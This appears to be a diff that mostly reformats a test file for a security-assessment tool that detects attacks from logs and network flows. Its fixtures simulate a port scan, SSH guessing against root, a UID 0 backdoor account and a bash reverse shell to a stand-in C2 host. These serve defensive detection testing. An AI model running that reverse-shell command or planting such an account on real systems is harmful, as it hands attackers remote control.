@@ -8,8 +8,8 @@ import { closeDb, getPool, getPrisma } from '../lib/db/client';
 import { insertEvents, insertFlows, newAssessment } from '../lib/detect/test-helpers';
 import { LogRollup } from '../lib/ingest/rollups';
 import type { LogRecord } from '../lib/ingest/types';
-import { buildAssessmentJson } from '../lib/report/assessment-json';
 import { getBlindSpots } from '../lib/queries/get-blind-spots';
+import { buildAssessmentJson } from '../lib/report/assessment-json';
 
 const T = Date.parse('2026-03-07T10:00:00Z');
 const at = (s: number) => new Date(T + s * 1000).toISOString();
@@ -27,18 +27,53 @@ beforeAll(async () => {
   await mapHostManually(id, 'db01', '10.0.0.6');
   await mapHostManually(id, 'quiet01', '10.0.0.8');
   // Network only, detected: a port scan nobody logged.
-  await insertFlows(id, Array.from({ length: 20 }, (_, i) => ({ ts: at(60 + i), src: SCANNER, dst: WEB, dport: 1000 + i, packets: 1, bytes: 44, flags: 2 })));
+  await insertFlows(
+    id,
+    Array.from({ length: 20 }, (_, i) => ({ ts: at(60 + i), src: SCANNER, dst: WEB, dport: 1000 + i, packets: 1, bytes: 44, flags: 2 })),
+  );
   // Network detected + log evidence: a second scanner whose probe the web server logged (no log detector fires on one line).
-  await insertFlows(id, Array.from({ length: 20 }, (_, i) => ({ ts: at(3600 + i), src: '198.51.100.8', dst: WEB, dport: 2000 + i, packets: 1, bytes: 44, flags: 2 })));
+  await insertFlows(
+    id,
+    Array.from({ length: 20 }, (_, i) => ({ ts: at(3600 + i), src: '198.51.100.8', dst: WEB, dport: 2000 + i, packets: 1, bytes: 44, flags: 2 })),
+  );
   await insertEvents(id, [{ ts: at(3605), kind: 'accept', program: 'nginx', src: '198.51.100.8', raw: 'nginx: 198.51.100.8 "GET / HTTP/1.0" 400' }]);
   // Both, detected by both: SSH guessing in the logs and in the flows (≥ 30 short sessions).
-  await insertEvents(id, Array.from({ length: 40 }, (_, i) => ({ ts: at(7200 + i * 5), kind: 'ssh_failed', program: 'sshd', src: GUESSER, user: 'root', result: 'failed' })));
-  await insertFlows(id, Array.from({ length: 40 }, (_, i) => ({ ts: at(7200 + i * 5), durationS: 3, src: GUESSER, dst: WEB, dport: 22, packets: 12, bytes: 2500, revPackets: 10, revBytes: 3000, flags: 27, revFlags: 27 })));
+  await insertEvents(
+    id,
+    Array.from({ length: 40 }, (_, i) => ({ ts: at(7200 + i * 5), kind: 'ssh_failed', program: 'sshd', src: GUESSER, user: 'root', result: 'failed' })),
+  );
+  await insertFlows(
+    id,
+    Array.from({ length: 40 }, (_, i) => ({
+      ts: at(7200 + i * 5),
+      durationS: 3,
+      src: GUESSER,
+      dst: WEB,
+      dport: 22,
+      packets: 12,
+      bytes: 2500,
+      revPackets: 10,
+      revBytes: 3000,
+      flags: 27,
+      revFlags: 27,
+    })),
+  );
   // Logs only, detected: an account created, no peer to see on the wire.
-  await insertEvents(id, [{ ts: at(9000), kind: 'user_add', program: 'useradd', user: 'svc-backup', uid: 0, raw: 'useradd[812]: new user: name=svc-backup, UID=0, GID=0, home=/root, shell=/bin/bash' }]);
+  await insertEvents(id, [
+    {
+      ts: at(9000),
+      kind: 'user_add',
+      program: 'useradd',
+      user: 'svc-backup',
+      uid: 0,
+      raw: 'useradd[812]: new user: name=svc-backup, UID=0, GID=0, home=/root, shell=/bin/bash',
+    },
+  ]);
   // Logs detected + network evidence: a reverse shell command line, and the session it opened.
   await insertEvents(id, [{ ts: at(10_000), kind: 'exec', exe: '/bin/bash', argv: ['bash', '-c', `bash -i >& /dev/tcp/${C2}/443 0>&1`], uid: 33, euid: 33 }]);
-  await insertFlows(id, [{ ts: at(10_001), durationS: 600, src: WEB, dst: C2, dport: 443, packets: 300, bytes: 40_000, revPackets: 280, revBytes: 30_000, flags: 27, revFlags: 27 }]);
+  await insertFlows(id, [
+    { ts: at(10_001), durationS: 600, src: WEB, dst: C2, dport: 443, packets: 300, bytes: 40_000, revPackets: 280, revBytes: 30_000, flags: 27, revFlags: 27 },
+  ]);
   // Blind spots: db01 logs with a 3 h silence, quiet01 in flows only, a 1 h hole in the flows.
   await insertEvents(id, [
     { ts: at(100), kind: 'syslog', host: 'db01', program: 'cron' },
@@ -49,8 +84,14 @@ beforeAll(async () => {
   const pool = getPool();
   const upload = crypto.randomUUID();
   const file = crypto.randomUUID();
-  await getPrisma().upload.create({ data: { id: upload, assessmentId: id, kind: 'logs', originalName: 'a.log', storedPath: '/dev/null', sizeBytes: 0n, sha256: 'x' } });
-  await pool.query(`INSERT INTO source_file (id, assessment_id, upload_id, path, kind, format) VALUES ($1, $2, $3, 'mail01/audit.log', 'logs', 'auditd')`, [file, id, upload]);
+  await getPrisma().upload.create({
+    data: { id: upload, assessmentId: id, kind: 'logs', originalName: 'a.log', storedPath: '/dev/null', sizeBytes: 0n, sha256: 'x' },
+  });
+  await pool.query(`INSERT INTO source_file (id, assessment_id, upload_id, path, kind, format) VALUES ($1, $2, $3, 'mail01/audit.log', 'logs', 'auditd')`, [
+    file,
+    id,
+    upload,
+  ]);
   await pool.query(
     `INSERT INTO log_event (assessment_id, source_file_id, line_no, ts, host_name, kind, raw) VALUES ($1, $2, 1, $3, 'mail01', 'login', 'type=USER_LOGIN ...')`,
     [id, file, at(500)],
